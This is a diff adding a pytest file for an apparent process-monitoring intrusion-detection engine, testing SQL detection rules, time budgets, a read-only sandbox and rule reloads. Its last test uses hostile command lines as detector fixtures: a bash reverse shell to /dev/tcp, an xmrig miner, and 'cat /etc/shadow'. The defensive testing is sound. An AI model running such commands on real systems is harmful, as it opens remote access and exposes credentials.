@@ -1,0 +1,277 @@
+"""The rule engine without sockets: differential firing, incremental and scheduled rules,
+time budgets that disable a runaway rule while the others keep firing, reloads."""
+
+from __future__ import annotations
+
+import itertools
+import time
+from pathlib import Path
+
+import pytest
+
+from daemoneye.rules.engine import Engine
+from daemoneye.rules.live import EventIn
+from daemoneye.rules.model import Rule, parse_rules_text
+from daemoneye.rules.sandbox import BudgetExceeded
+
+SHIPPED = Path(__file__).resolve().parents[2] / "deploy" / "rules"
+_ticks = itertools.count(1000)
+
+
+def rec(pid: int, path: str, ppid: int = 1, argv: list[str] | None = None, **extra) -> dict:
+    return {
+        "pid": pid,
+        "ppid": ppid,
+        "startTicks": extra.pop("startTicks", next(_ticks)),
+        "startTime": time.time(),
+        "exePath": path,
+        "name": path.rsplit("/", 1)[-1][:15],
+        "cmdline": argv or [path],
+        "uid": 1000,
+        "euid": 1000,
+        **extra,
+    }
+
+
+def engine_with(text: str, **kwargs) -> tuple[Engine, list[tuple[str, str]]]:
+    disabled: list[tuple[str, str]] = []
+    engine = Engine(on_disable=lambda rule, why: disabled.append((rule.id, why)), **kwargs)
+    rules, problems = parse_rules_text(text, "test.yml")
+    assert not problems
+    checked = [engine.validator.check(r) for r in rules]
+    engine.load(checked)
+    return engine, disabled
+
+
+TMP_RULE = """
+id: tmp-exec
+name: exec from tmp
+severity: high
+sql: SELECT pid, path FROM processes WHERE path LIKE '/tmp/%'
+"""
+
+
+def test_fires_once_per_process_and_again_for_a_new_one() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    evil = rec(100, "/tmp/evil")
+    firings, _ = engine.apply([EventIn("start", evil), EventIn("start", rec(101, "/bin/ls"))])
+    assert [(f.rule.id, f.row["pid"]) for f in firings] == [("tmp-exec", 100)]
+    assert firings[0].record["exePath"] == "/tmp/evil"
+    # still matching: a modify does not re-fire
+    again, _ = engine.apply([EventIn("modify", {**evil, "threads": 4})])
+    assert again == []
+    # a second matching process fires
+    second, _ = engine.apply([EventIn("start", rec(102, "/tmp/evil"))])
+    assert [f.row["pid"] for f in second] == [102]
+    # pid reuse: same pid, new start ticks is a new process
+    reused, _ = engine.apply([EventIn("start", rec(100, "/tmp/evil"))])
+    assert [f.row["pid"] for f in reused] == [100]
+
+
+def test_short_lived_process_started_and_stopped_in_one_batch_still_fires() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    r = rec(200, "/tmp/blink")
+    firings, _ = engine.apply([EventIn("start", r), EventIn("stop", r)])
+    assert [f.row["pid"] for f in firings] == [200]
+    assert engine.tables.by_pid.get(200) is None
+
+
+def test_cost_follows_changed_rows_not_table_size() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    engine.apply([EventIn("start", rec(10_000 + i, "/tmp/x")) for i in range(2000)])
+    plan = engine.rules["tmp-exec"].plan
+    assert plan.mode == "incremental" and plan.sql.endswith("processes.rowid >= ?")
+    firings, batch = engine.apply([EventIn("start", rec(20_000, "/tmp/y"))])
+    assert len(firings) == 1  # the 2000 earlier matches do not come back
+    # the run visits only this batch's rows: SQLite searches the rowid range
+    detail = " ".join(
+        str(r[-1]) for r in engine.sandbox.conn.execute("EXPLAIN QUERY PLAN " + plan.sql, (1,))
+    )
+    assert "rowid>?" in detail.replace(" ", "") or "rowid>=?" in detail.replace(" ", ""), detail
+    _, rows = engine.sandbox.run(plan.sql, 1.0, 10, (batch.first_rowid,))
+    assert len(rows) == 1
+
+
+def test_parent_columns_and_joins() -> None:
+    engine, _ = engine_with(
+        """
+id: web-shell
+name: shell from nginx
+sql: |
+  SELECT p.pid, p.parent_name, pp.path AS parent_exe
+  FROM processes p JOIN processes pp ON p.parent = pp.pid
+  WHERE p.name = 'sh' AND pp.name = 'nginx'
+"""
+    )
+    engine.apply([EventIn("start", rec(300, "/usr/sbin/nginx"))])
+    firings, _ = engine.apply([EventIn("start", rec(301, "/bin/sh", ppid=300))])
+    assert [(f.row["pid"], f.row["parent_name"], f.row["parent_exe"]) for f in firings] == [
+        (301, "nginx", "/usr/sbin/nginx")
+    ]
+
+
+def test_event_rules_fire_per_event() -> None:
+    engine, _ = engine_with(
+        """
+id: susp
+name: collector said so
+sql: SELECT pid, reason FROM process_events WHERE event = 'suspicious'
+"""
+    )
+    r = rec(400, "/tmp/a")
+    firings, _ = engine.apply([EventIn("suspicious", r, reason="exe_deleted", severity="high")])
+    assert [(f.row["pid"], f.row["reason"]) for f in firings] == [(400, "exe_deleted")]
+    firings, _ = engine.apply([EventIn("suspicious", r, reason="masquerade", severity="high")])
+    assert [f.row["reason"] for f in firings] == ["masquerade"]
+
+
+def test_aggregate_rule_fires_once_per_storm() -> None:
+    engine, _ = engine_with(
+        """
+id: storm
+name: fork storm
+interval: 0.01
+sql: |
+  SELECT parent, count(*) AS children FROM process_events
+  WHERE event = 'start' GROUP BY parent HAVING count(*) > 50
+"""
+    )
+    assert engine.rules["storm"].plan.mode == "scheduled"
+    engine.apply([EventIn("start", rec(500, "/bin/bash"))])
+    engine.apply([EventIn("start", rec(600 + i, "/bin/true", ppid=500)) for i in range(40)])
+    assert engine.run_due(force=True) == []
+    engine.apply([EventIn("start", rec(700 + i, "/bin/true", ppid=500)) for i in range(20)])
+    firings = engine.run_due(force=True)
+    assert [(f.row["parent"], f.row["children"]) for f in firings] == [(500, 60)]
+    assert firings[0].record["pid"] == 500  # the storming parent
+    engine.apply([EventIn("start", rec(800 + i, "/bin/true", ppid=500)) for i in range(5)])
+    assert engine.run_due(force=True) == []  # same parent, still storming: no re-fire
+
+
+def test_runaway_rule_is_stopped_by_the_budget_and_disabled_others_keep_firing() -> None:
+    text = (
+        TMP_RULE
+        + """
+---
+id: forever
+name: cartesian explosion
+sql: |
+  SELECT count(*) FROM processes a, process_events b, process_events c, process_events d
+  WHERE a.name LIKE '%x%'
+"""
+    )
+    engine, disabled = engine_with(text, scheduled_budget_s=0.05)
+    engine.apply([EventIn("start", rec(900 + i, "/usr/bin/x")) for i in range(300)])
+    started = time.monotonic()
+    engine.run_due(force=True)
+    assert time.monotonic() - started < 5  # the budget stopped it, not completion
+    assert [d[0] for d in disabled] == ["forever"]
+    assert "time budget" in disabled[0][1]
+    assert engine.rules["forever"].summary()["state"].startswith("disabled")
+    firings, _ = engine.apply([EventIn("start", rec(1500, "/tmp/still-caught"))])
+    assert [f.rule.id for f in firings] == ["tmp-exec"]
+    assert engine.run_due(force=True) == []  # the disabled rule no longer runs
+
+
+def test_incremental_rule_that_errors_is_disabled() -> None:
+    engine, disabled = engine_with(
+        TMP_RULE
+        + """
+---
+id: overflow
+name: fails at run time
+sql: SELECT pid FROM processes WHERE abs(-9223372036854775807 - (pid - 1599)) > 0
+"""
+    )
+    firings, _ = engine.apply([EventIn("start", rec(1600, "/tmp/z"))])
+    assert [f.rule.id for f in firings] == ["tmp-exec"]
+    assert [d[0] for d in disabled] == ["overflow"]
+    assert "integer overflow" in disabled[0][1]
+
+
+def test_reload_keeps_differential_state() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    r = rec(1700, "/tmp/keep")
+    assert len(engine.apply([EventIn("start", r)])[0]) == 1
+    rules, _ = parse_rules_text(TMP_RULE, "test.yml")
+    changes = engine.load([engine.validator.check(rules[0])])
+    assert changes["unchanged"] == ["tmp-exec"]
+    assert engine.apply([EventIn("modify", r)])[0] == []
+
+
+def test_query_budget_and_read_only() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    engine.apply([EventIn("start", rec(1800 + i, "/bin/x")) for i in range(200)])
+    with pytest.raises(BudgetExceeded):
+        engine.query(
+            "SELECT count(*) FROM process_events a, process_events b, process_events c",
+            budget_s=0.05,
+            max_rows=1,
+        )
+    with pytest.raises(ValueError, match="only a SELECT"):
+        engine.query("DELETE FROM processes", 1.0, 1)
+    columns, rows = engine.query("SELECT count(*) AS n FROM processes", 1.0, 1)
+    assert columns == ["n"] and rows[0][0] == 200
+
+
+def test_sandbox_authorizer_blocks_writes_even_without_validation() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    for sql in ("DELETE FROM processes", "SELECT * FROM sqlite_master", "PRAGMA query_only=0"):
+        with pytest.raises(Exception, match=r"not authorized|prohibited"):
+            engine.sandbox.run(sql, 1.0, 1)
+
+
+def test_snapshot_rebuild_replaces_live_table_without_events() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    engine.apply([EventIn("start", rec(1900, "/bin/old"))])
+    firings = engine.rebuild([rec(1901, "/tmp/pre-existing"), rec(1902, "/bin/bash")], "col@x")
+    assert [f.row["pid"] for f in firings] == [1901]
+    _, rows = engine.sandbox.run("SELECT pid FROM processes ORDER BY pid", 1.0, 10)
+    assert rows == [(1901,), (1902,)]
+    _, rows = engine.sandbox.run("SELECT count(*) FROM process_events", 1.0, 1)
+    assert rows == [(1,)]  # only the real start event, not the snapshot
+
+
+def test_event_window_is_bounded() -> None:
+    engine, _ = engine_with(TMP_RULE, window_rows=100, window_s=60)
+    engine.apply([EventIn("start", rec(3000 + i, "/bin/x")) for i in range(250)])
+    old = EventIn("start", rec(9999, "/bin/old"), time_ns=(int(time.time()) - 3600) * 10**9)
+    engine.apply([old])
+    engine.tables.trim_events()
+    _, rows = engine.sandbox.run("SELECT count(*), min(pid) FROM process_events", 1.0, 1)
+    assert rows[0][0] <= 100 and rows[0][1] != 9999
+
+
+def test_shipped_rules_load_and_fire_on_their_targets() -> None:
+    engine = Engine()
+    changes, problems = engine.load_paths([SHIPPED])
+    assert problems == [] and len(changes["added"]) >= 10
+    cases = {
+        "de-reverse-shell": rec(
+            5001, "/bin/bash", argv=["bash", "-i", ">&", "/dev/tcp/1.2.3.4/4444"]
+        ),
+        "de-exec-world-writable": rec(5002, "/dev/shm/.x"),
+        "de-cryptominer": rec(5003, "/opt/xmrig", argv=["xmrig", "-o", "stratum+tcp://pool:3333"]),
+        "de-deleted-executable": rec(5004, "/usr/bin/gone", exeDeleted=True, onDisk=0),
+        "de-credential-files": rec(5005, "/bin/cat", argv=["cat", "/etc/shadow"]),
+        "de-setuid-escalation": rec(5006, "/usr/bin/evil", euid=0),
+    }
+    fired = {}
+    for rule_id, record in cases.items():
+        firings, _ = engine.apply([EventIn("start", record)])
+        fired[rule_id] = {f.rule.id for f in firings}
+    for rule_id in cases:
+        assert rule_id in fired[rule_id], (rule_id, fired[rule_id])
+    benign, _ = engine.apply([EventIn("start", rec(5100, "/usr/bin/ls", argv=["ls", "-l"]))])
+    assert benign == []
+    flagged = EventIn("suspicious", rec(5200, "/usr/bin/x"), reason="masquerade: kworker is x")
+    assert {f.rule.id for f in engine.apply([flagged])[0]} == {"de-collector-suspicious"}
+    # a storm of children: the aggregate fires once for their parent
+    engine.apply([EventIn("start", rec(6000 + i, "/bin/true", ppid=5100)) for i in range(60)])
+    storms = [f for f in engine.run_due(force=True) if f.rule.id == "de-fork-storm"]
+    assert [f.row["parent"] for f in storms] == [5100]
+
+
+def test_rule_model_defaults() -> None:
+    rule = Rule(id="x", name="y", sql="SELECT 1")
+    assert rule.enabled and rule.severity == "medium"
